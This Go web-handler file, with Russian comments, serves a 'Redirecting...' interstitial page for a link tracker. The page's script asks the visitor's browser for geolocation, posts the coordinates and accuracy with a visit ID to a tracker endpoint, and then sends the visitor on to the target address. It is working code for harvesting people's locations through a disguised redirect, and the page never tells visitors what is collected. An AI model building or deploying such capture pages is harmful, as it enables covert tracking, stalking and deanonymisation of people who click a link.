package api

import (
	"html/template"
	"net/http"

	"github.com/gin-gonic/gin"
)

// redirectDelayMs - сколько миллисекунд страница захвата ждёт ответа
// браузера на запрос геолокации, прежде чем увести посетителя дальше
const redirectDelayMs = 2500

// страница, которую посетитель видит долю секунды перед редиректом:
// запрашивает у браузера геолокацию и отправляет её на сервер,
// переход на целевой адрес происходит в любом случае
var capturePageTmpl = template.Must(template.New("capture").Parse(`<!DOCTYPE html>
<html lang="ru">
<head>
<meta charset="utf-8">
<title>Перенаправление...</title>
<style>
body { font-family: sans-serif; display: flex; align-items: center; justify-content: center; height: 100vh; margin: 0; color: #555; }
</style>
</head>
<body>
<p>Перенаправление...</p>
<script>
(function () {
	var target = {{.TargetURL}};
	var done = false;

	function go() {
		if (done) { return; }
		done = true;
		window.location.replace(target);
	}

	// уходим по таймеру независимо от решения посетителя по геолокации
	setTimeout(go, {{.DelayMs}});

	if (navigator.geolocation) {
		navigator.geolocation.getCurrentPosition(function (pos) {
			fetch("/api/tracker/geolocation", {
				method: "POST",
				headers: { "Content-Type": "application/json" },
				body: JSON.stringify({
					visitId: {{.VisitID}},
					latitude: pos.coords.latitude,
					longitude: pos.coords.longitude,
					accuracy: pos.coords.accuracy
				}),
				keepalive: true
			}).catch(function () {}).finally(go);
		}, go, { timeout: {{.DelayMs}}, maximumAge: 60000 });
	}
})();
</script>
</body>
</html>
`))

type capturePageData struct {
	VisitID   int
	TargetURL string
	DelayMs   int
}

// renderCapturePage отдаёт посетителю промежуточную страницу захвата геолокации
func renderCapturePage(c *gin.Context, visitID int, targetURL string) {

	c.Header("Content-Type", "text/html; charset=utf-8")
	c.Status(http.StatusOK)

	// статус уже отправлен, при ошибке записи сделать ничего нельзя
	_ = capturePageTmpl.Execute(c.Writer, capturePageData{
		VisitID:   visitID,
		TargetURL: targetURL,
		DelayMs:   redirectDelayMs,
	})
}
